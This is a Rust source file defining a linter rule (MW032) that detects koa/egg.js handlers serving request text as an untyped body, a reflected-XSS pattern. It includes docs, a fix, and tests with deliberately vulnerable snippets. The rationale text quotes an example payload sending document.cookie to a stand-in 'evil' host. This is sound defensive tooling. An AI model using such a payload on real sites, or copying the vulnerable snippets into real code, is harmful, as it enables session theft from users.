//! `MW032` `request-text-served-as-html`: `ctx.body = <string that starts with query or
//! route-parameter data>` with no `ctx.type`: koa serves a string body that starts with `<` as
//! `text/html`, so the request chooses an HTML page (reflected XSS, issue 12 class 3).

use crate::util::report_mistakes;
use crate::{Rule, RuleContext, RuleDocs, RuleMeta};
use eggsec_js::mistakes::MistakeKind;
use eggsec_report::{Confidence, Severity, Strategy};

pub struct RequestTextServedAsHtml;

static META: RuleMeta = RuleMeta {
    code: "MW032",
    name: "request-text-served-as-html",
    strategy: Strategy::Middleware,
    severity: Severity::High,
    confidence: Confidence::Medium,
    control: "Text from the request is never the start of an untyped response body",
    docs: RuleDocs {
        what: r#"Finds `ctx.body = x` (also `ctx.response.body`, `this.body` in egg 1 generator middleware) where the string starts with a query-string value or a route parameter — the value itself, a template literal that opens with it (`` `${name} was not found` ``), or a `+` chain whose first operand it is — followed through locals in the same function and tegg `@HTTPQuery()`/`@HTTPParam()` parameters, in a function that sets no type (`ctx.type = ...`, `ctx.set('Content-Type', ...)`, `ctx.attachment()`). Whole request objects (`ctx.body = ctx.query`) are sent as JSON and are not reported; nor are strings that open with fixed text (`'Hello ' + name` is served as `text/plain`), nor body fields (a victim's browser cannot be made to send a JSON body by a link). HTML built around request data (`'<p>' + x`) is `html-built-from-request`."#,
        why: r#"koa picks the response type of a string body from its first character: `<` gives `text/html`. `GET /echo?msg=<script>fetch('//evil/'+document.cookie)</script>` then runs script in the app's origin for whoever follows the link — the same reflected XSS as printing the value into a template raw."#,
        bad: r#"async notFound() {
  const { ctx } = this;
  ctx.status = 404;
  ctx.body = `${ctx.params.name} was not found`;
}"#,
        good: r#"async notFound() {
  const { ctx } = this;
  ctx.status = 404;
  ctx.type = 'text/plain'; // or: ctx.body = { message: `${ctx.params.name} was not found` };
  ctx.body = `${ctx.params.name} was not found`;
}"#,
        fix: r#"Set the type before the body (`ctx.type = 'text/plain'`), send JSON (`ctx.body = { message }`), or escape the value (`ctx.helper.escape(name)`) when HTML is meant; egg-security's `nosniff` header keeps browsers from second-guessing the declared type."#,
    },
};

impl Rule for RequestTextServedAsHtml {
    fn meta(&self) -> &'static RuleMeta {
        &META
    }

    fn check(&self, cx: &mut RuleContext<'_>) {
        report_mistakes(cx, MistakeKind::BodyStringFromRequest, |m| {
            format!(
                "The response body in {} starts with request data and has no type (`{}`): koa serves a string starting with `<` as text/html",
                m.function, m.what
            )
        });
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::{model_with_controller, run_rule};

    #[test]
    fn hits() {
        for src in [
            "exports.echo = async ctx => { ctx.body = ctx.query.msg; };",
            "exports.nf = async ctx => { const name = ctx.params.name; ctx.status = 404; ctx.body = `${name} was not found`; };",
            "exports.cb = async ctx => { const { callback } = ctx.query; ctx.body = callback + '(' + JSON.stringify({ a: 1 }) + ')'; };",
            "class C { async show() { const { ctx } = this; ctx.body = ctx.query.text || ''; } }\nmodule.exports = C;",
        ] {
            let f = run_rule(&RequestTextServedAsHtml, &model_with_controller(src));
            assert_eq!(f.len(), 1, "{src}");
            assert!(f[0].evidence[0].starts_with("source "), "{:?}", f[0].evidence);
            assert!(f[0].evidence.last().unwrap().starts_with("sink "), "{:?}", f[0].evidence);
        }
    }

    #[test]
    fn look_alikes_are_quiet() {
        for src in [
            // typed
            "exports.plain = async ctx => { ctx.type = 'text/plain'; ctx.body = ctx.query.msg; };",
            "exports.plain = async ctx => { ctx.body = ctx.query.msg; ctx.set('Content-Type', 'text/plain; charset=utf-8'); };",
            // fixed text first: koa serves text/plain
            "exports.hello = async ctx => { ctx.body = 'Hello ' + ctx.query.name; };",
            "exports.hello = async ctx => { ctx.body = `Hello ${ctx.query.name}`; };",
            // JSON
            "exports.json = async ctx => { ctx.body = { msg: ctx.query.msg }; };",
            "exports.all = async ctx => { ctx.body = ctx.query; };",
            "exports.all = async ctx => { const q = ctx.query; ctx.body = q; };",
            // escaped / converted
            "exports.esc = async ctx => { ctx.body = ctx.helper.escape(ctx.query.msg); };",
            // a value that went through a call: a stored record, not the request's text
            "exports.s = async ctx => { const { id } = ctx.query; const res = await ctx.service.scene.find({ id }); ctx.body = res.data; };",
            "exports.s = async ctx => { const page = await ctx.service.page.bySlug(ctx.params.slug); ctx.body = page; };",
            // a header (a link cannot set it)
            "exports.h = async ctx => { const ua = ctx.get('user-agent'); ctx.body = ua; };",
            // a JSON body field (a link cannot make a browser send it)
            "exports.b = async ctx => { ctx.body = ctx.request.body.text; };",
        ] {
            assert!(run_rule(&RequestTextServedAsHtml, &model_with_controller(src)).is_empty(), "{src}");
        }
    }
}
